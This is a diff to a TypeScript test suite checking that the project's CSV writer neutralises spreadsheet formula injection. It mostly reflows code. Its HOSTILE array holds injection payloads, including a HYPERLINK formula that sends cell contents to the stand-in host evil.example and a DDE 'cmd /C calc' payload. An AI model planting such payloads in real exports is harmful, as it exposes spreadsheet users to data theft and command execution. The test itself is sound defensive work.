@@ -5,7 +5,14 @@ import { csvLine as demoCsvLine } from '../../src/demo/record-format.ts';
 
 // Issue 13 item 12: no CSV the project writes can carry a live formula.
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('CSV formula neutralisation', () => {
   it('prefixes every cell starting with = + - @ tab or CR with an apostrophe', () => {
@@ -17,7 +24,9 @@ describe('CSV formula neutralisation', () => {
   });
 
   it('leaves ordinary values alone and still quotes commas, quotes and line breaks', () => {
-    expect(csvLine(['北京三快在线科技有限公司', 12000, null, '2026-11-03', 'a,b', 'say "hi"', '1-2'])).toBe('北京三快在线科技有限公司,12000,,2026-11-03,"a,b","say ""hi""",1-2');
+    expect(csvLine(['北京三快在线科技有限公司', 12000, null, '2026-11-03', 'a,b', 'say "hi"', '1-2'])).toBe(
+      '北京三快在线科技有限公司,12000,,2026-11-03,"a,b","say ""hi""",1-2',
+    );
   });
 
   it('the credit-list export neutralises a hostile firm name and basis', () => {
